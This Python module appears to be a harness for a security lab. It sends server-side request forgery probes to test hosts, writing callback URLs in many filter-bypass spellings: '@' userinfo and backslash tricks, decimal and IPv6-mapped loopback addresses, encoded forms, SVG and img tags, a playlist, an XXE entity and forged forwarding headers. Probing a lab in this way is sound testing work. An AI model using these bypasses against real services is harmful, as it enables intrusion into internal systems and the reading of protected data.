"""How the lab's hosts are asked to fetch, with a plain client: one way for each place, one spelling for each check."""

from __future__ import annotations

import asyncio
import base64
import json
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx

STATIC = "static.acme.test"
SPELLINGS: dict[str, Callable[[str, str], str]] = {
    "/proxy": lambda url, port: url,
    "/preview": lambda url, port: url.replace("http://", f"http://{STATIC}@"),
    "/thumb": lambda url, port: url + ".png",
    "/embed": lambda url, port: f"{url}#{STATIC}:{port}",
    "/share": lambda url, port: url.removeprefix("http:"),
    "/whois": lambda url, port: _authority(url),
    "/region": lambda url, port: _authority(url) + "/?",
    "/picture": lambda url, port: f"@{_authority(url)}/",
    "/cluster": lambda url, port: f".{_authority(url)}",
    "/mirror": lambda url, port: f"http://{_authority(url)}#@{STATIC}:{port}/",
    "/import": lambda url, port: f"http://{_authority(url)}\\@{STATIC}:{port}/",
    "/decode": lambda url, port: quote(url, safe=""),
    "/options": lambda url, port: json.dumps({"url": url}),
    "/coded": lambda url, port: base64.urlsafe_b64encode(url.encode()).decode(),
    "/numbers": lambda url, port: _by_address(url, "2130706433"),
    "/mapped": lambda url, port: _by_address(url, "[::ffff:127.0.0.1]"),
    "/prefs": lambda url, port: quote(json.dumps({"background": url}), safe=""),
    "/convert": lambda url, port: f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>',
    "/render": lambda url, port: f'<img src="{url}">',
    "/pdf": lambda url, port: f'<img src="{url}">',
    "/transcode": lambda url, port: f"#EXTM3U\n#EXTINF:1,\n{url}\n",
    "/v1/orders": lambda url, port: f"<order><callback>{url}</callback></order>",
    "/v1/invoices": lambda url, port: _entity(url),
}
"""What each page is given so that its weak check passes; the plain address elsewhere."""


def _authority(url: str) -> str:
    return url.split("/")[2]


def _by_address(url: str, address: str) -> str:
    token, port = re.findall(r"//([^.]+)\.[^:]+:(\d+)", url)[0]
    return f"http://{address}:{port}/{token}"


def _entity(url: str) -> str:
    return f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}">]><r>&x;</r>'


async def ask(http: httpx.AsyncClient, location: str, url: str) -> None:
    """Make the request of `location` with `url`, which is of the form `http://token.domain:port/path`."""
    method, path, place, name = re.split(r" | (?=[a-z]+:)|(?<=[a-z]):", location, maxsplit=3)
    port = str(http.base_url.port)
    spelling = SPELLINGS.get(path)
    if path == "/import" and place == "file":
        spelling = lambda url, port: _entity(url)  # noqa: E731 - the same path on another host
    value = spelling(url, port) if spelling else url
    if place == "path":
        await http.get(_filled(path, url))
    elif name == "request-target":
        await _absolute(http, url)
    else:
        await http.request(method, path, **_carried(place, name, value))


def _filled(path: str, url: str) -> str:
    coded = base64.urlsafe_b64encode(url.encode()).decode()
    address = coded if path.startswith("/cache") else quote(url, safe="")
    return (
        path.replace("{+address}", url)
        .replace("{address}", address)
        .replace("{host}", quote(_authority(url), safe=""))
    )


def _carried(place: str, name: str, value: str) -> dict[str, Any]:
    if place == "json":
        document: object = value
        for key in reversed(name.split(".")):
            document = [document] if key == "0" else {key: document}
        return {"json": document}
    if place == "xml":
        return {"content": value, "headers": {"Content-Type": "application/xml"}}
    if place == "file":
        return {"files": {name: ("probe", value.encode(), "application/octet-stream")}}
    if place == "cookie":
        return {"headers": {"Cookie": f"{name}={value}"}}
    if place == "header":
        return {"headers": {name: _header(name, value)}}
    if place == "form":
        other = {"name": "x"} if name == "image_url" else {}
        return {"data": {**other, name: value}}
    extra = {"w": "64", "q": "75"} if name == "url" else {}
    return {"params": {name: value, **extra}}


def _header(name: str, value: str) -> str:
    if name in ("X-Forwarded-Host", "X-Forwarded-For", "Host"):
        return _authority(value)
    if name == "Forwarded":
        return f"host={_authority(value)}"
    return f"a@{_authority(value).partition(':')[0]}" if name == "From" else value


async def _absolute(http: httpx.AsyncClient, url: str) -> None:
    """A request whose target is a whole address, as a proxy is asked."""
    reader, writer = await asyncio.open_connection(http.base_url.host, http.base_url.port)
    writer.write(f"GET {url} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    await reader.read(1)
    writer.close()
